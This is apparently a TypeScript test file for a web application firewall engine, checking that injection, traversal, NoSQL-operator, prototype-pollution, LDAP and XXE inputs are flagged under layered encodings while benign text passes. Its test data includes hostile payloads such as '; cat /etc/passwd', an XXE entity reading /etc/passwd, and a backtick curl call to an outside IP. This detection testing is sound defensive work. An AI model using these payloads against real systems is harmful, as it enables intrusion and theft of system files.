import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { inspectKey, inspectValue } from '../../../src/validation/waf/engine.js';
import type { Paranoia, RuleHit } from '../../../src/validation/waf/types.js';

const ruleIds = (hits: readonly RuleHit[]): string[] => hits.map((hit) => hit.ruleId);
const total = (hits: readonly RuleHit[]): number => hits.reduce((sum, hit) => sum + hit.score, 0);

describe('inspectValue', () => {
  it('attack behind URL, entity, Unicode encodings', () => {
    expect(ruleIds(inspectValue('%3B%20id', { paranoia: 1 }))).toContain(
      'command-003-chained-command',
    );
    expect(ruleIds(inspectValue('&#59; id', { paranoia: 1 }))).toContain(
      'command-003-chained-command',
    );
    expect(ruleIds(inspectValue('\\u003b id', { paranoia: 1 }))).toContain(
      'command-003-chained-command',
    );
    expect(
      ruleIds(
        inspectValue('%25%32%65%25%32%65%25%32%66%25%32%65%25%32%65%25%32%66etc%25%32%66passwd', {
          paranoia: 1,
        }),
      ),
    ).toContain('traversal-001-dot-dot-sequence');
  });

  it('returns each rule once with its highest score', () => {
    const hits = inspectValue('../../etc/passwd %2e%2e%2f%2e%2e%2f', { paranoia: 1 });
    const ids = ruleIds(hits);

    expect(ids.filter((id) => id === 'traversal-001-dot-dot-sequence')).toHaveLength(1);
    expect(new Set(ids).size).toBe(ids.length);
  });

  it('looks into JSON nested in a string', () => {
    const hits = inspectValue('{"filter": {"$where": "sleep(100)"}, "path": "../../etc/shadow"}', {
      paranoia: 1,
    });

    expect(ruleIds(hits)).toContain('nosql-011-operator-key-name');
    expect(ruleIds(hits)).toContain('traversal-001-dot-dot-sequence');
  });

  it('finds a prototype key in nested JSON', () => {
    expect(ruleIds(inspectValue('{"__proto__": {"isAdmin": true}}', { paranoia: 1 }))).toContain(
      'prototype-001-proto-key',
    );
  });

  it('nested JSON constructor.prototype members', () => {
    // Another member before `prototype` keeps the text patterns from matching; the key path does.
    const value = '{"a": {"constructor": {"name": "x", "prototype": {"isAdmin": true}}}}';
    expect(ruleIds(inspectValue(value, { paranoia: 1 }))).toContain(
      'prototype-002-constructor-prototype-key',
    );
    expect(inspectValue('{"product": {"prototype": {"stage": "beta"}}}', { paranoia: 1 })).toEqual(
      [],
    );
  });

  it('skips nested JSON deeper than its bound', () => {
    const nest = (depth: number) => `${'['.repeat(depth)}{"a[$ne]": 1}${']'.repeat(depth)}`;

    expect(ruleIds(inspectValue(nest(3), { paranoia: 1 }))).toContain(
      'nosql-011-operator-key-name',
    );
    expect(ruleIds(inspectValue(nest(40), { paranoia: 1 }))).not.toContain(
      'nosql-011-operator-key-name',
    );
  });

  it('tagged field runs only sink detector', () => {
    const shell = inspectValue('report; final', { paranoia: 1, sink: 'shell' });
    const path = inspectValue('report; final', { paranoia: 1, sink: 'path' });

    expect(ruleIds(shell)).toContain('command-010-sink-metacharacter');
    expect(shell.every((hit) => hit.family === 'command')).toBe(true);
    expect(path).toEqual([]);
    expect(
      inspectValue('../../etc/passwd', { paranoia: 1, sink: 'shell' }).every(
        (hit) => hit.family === 'command',
      ),
    ).toBe(true);
  });

  it('adds looser rules at higher paranoia', () => {
    const value = '../README.md is referenced in the docs folder';

    expect(inspectValue(value, { paranoia: 1 })).toEqual([]);
    expect(ruleIds(inspectValue(value, { paranoia: 3 }))).toContain(
      'traversal-008-dot-dot-in-text',
    );
  });

  it('alphanumeric values skip all but SQL', () => {
    expect(inspectValue('whoami', { paranoia: 4 })).toEqual([]);
    expect(inspectValue('Lorem ipsum dolor sit amet', { paranoia: 1 })).toEqual([]);
  });

  it.each([
    "Conan O'Brien",
    "Rock 'n' Roll Hall of Fame",
    'john.doe+orders@example.co.uk',
    'rm -rf is dangerous, do not paste it in a terminal',
    'Error: ENOENT: no such file or directory (from the support ticket)',
    'The path C:\\Windows\\System32 appears in the crash log',
    'We use /etc/hosts for local overrides',
    'Markdown: **bold**, _italic_, `code`, [link](https://example.com)',
    '- [ ] todo item',
    '{"note": "nested json as a string"}',
    'https://shop.example.org/p/12345?utm_source=newsletter&utm_medium=email',
  ])('does not block %j at paranoia 1', (value) => {
    expect(total(inspectValue(value, { paranoia: 1 }))).toBeLessThan(5);
  });
});

describe('inspectValue under encodings', () => {
  const attacks = [
    '; cat /etc/passwd',
    '../../../../etc/shadow',
    '*)(uid=*))(|(uid=*',
    '{"$gt": ""}',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    '`curl http://198.51.100.7/x`',
  ];
  const encoders: ReadonlyArray<(value: string) => string> = [
    (value) => encodeURIComponent(value),
    (value) => encodeURIComponent(encodeURIComponent(value)),
    (value) => [...value].map((ch) => `&#${ch.codePointAt(0)};`).join(''),
    (value) =>
      [...value].map((ch) => `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
    (value) =>
      encodeURIComponent([...value].map((ch) => `&#x${ch.charCodeAt(0).toString(16)}`).join('')),
  ];

  it('attacks behind two chained encodings', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...attacks),
        fc.constantFrom(...encoders),
        fc.constantFrom(...encoders),
        (attack, first, second) => {
          expect(
            total(inspectValue(second(first(attack)), { paranoia: 1 })),
          ).toBeGreaterThanOrEqual(5);
        },
      ),
      { numRuns: 150 },
    );
  });
});

describe('inspectValue on arbitrary input', () => {
  const encodedChunks = fc.constantFrom(
    '%',
    '%2',
    '%c0',
    '%u',
    '&#',
    '&#x',
    '\\u{',
    '\\x',
    '\\',
    '`',
    '$(',
    '{',
    '[',
    '"',
  );

  it('well-formed hits for any string', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.string({ unit: 'grapheme-composite' }), encodedChunks, fc.string()), {
          maxLength: 12,
        }),
        fc.constantFrom(1, 2, 3, 4) as fc.Arbitrary<Paranoia>,
        (chunks, paranoia) => {
          const hits = inspectValue(chunks.join(''), { paranoia });
          for (const hit of hits) {
            expect(hit.ruleId).toMatch(/^[a-z]+-\d{3}-[a-z0-9-]+$/);
            expect([2, 3, 4, 5]).toContain(hit.score);
          }
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('inspectKey', () => {
  it.each(['$ne', '$where', '$regex', 'password[$ne]', 'a.$gt'])(
    'detects the operator key %j',
    (key) => {
      expect(ruleIds(inspectKey(key, { paranoia: 1 }))).toEqual(['nosql-011-operator-key-name']);
    },
  );

  it.each(['__proto__', 'a[__proto__][x]', 'constructor.prototype'])(
    'detects the prototype key %j',
    (key) => {
      expect(inspectKey(key, { paranoia: 1 }).map((hit) => hit.family)).toEqual(['prototype']);
    },
  );

  it.each(['$schema', '$ref', 'price', 'user_name'])('passes the key %j at paranoia 3', (key) => {
    expect(inspectKey(key, { paranoia: 3 })).toEqual([]);
  });

  it('prototype member under constructor', () => {
    expect(ruleIds(inspectKey('prototype', { paranoia: 1, parentKey: 'constructor' }))).toEqual([
      'prototype-002-constructor-prototype-key',
    ]);
    expect(inspectKey('prototype', { paranoia: 1, parentKey: 'product' })).toEqual([]);
  });

  it('passes a key named constructor at paranoia 1', () => {
    expect(inspectKey('constructor', { paranoia: 1 })).toEqual([]);
  });

  it('reports a bare prototype name from paranoia 3', () => {
    expect(inspectKey('prototype', { paranoia: 1 })).toEqual([]);
    expect(ruleIds(inspectKey('prototype', { paranoia: 3 }))).toEqual(['prototype-004-bare-name']);
  });

  it('reports an unknown dollar key from paranoia 3', () => {
    expect(inspectKey('$custom', { paranoia: 1 })).toEqual([]);
    expect(ruleIds(inspectKey('$custom', { paranoia: 3 }))).toEqual(['nosql-012-dollar-key-name']);
  });
});
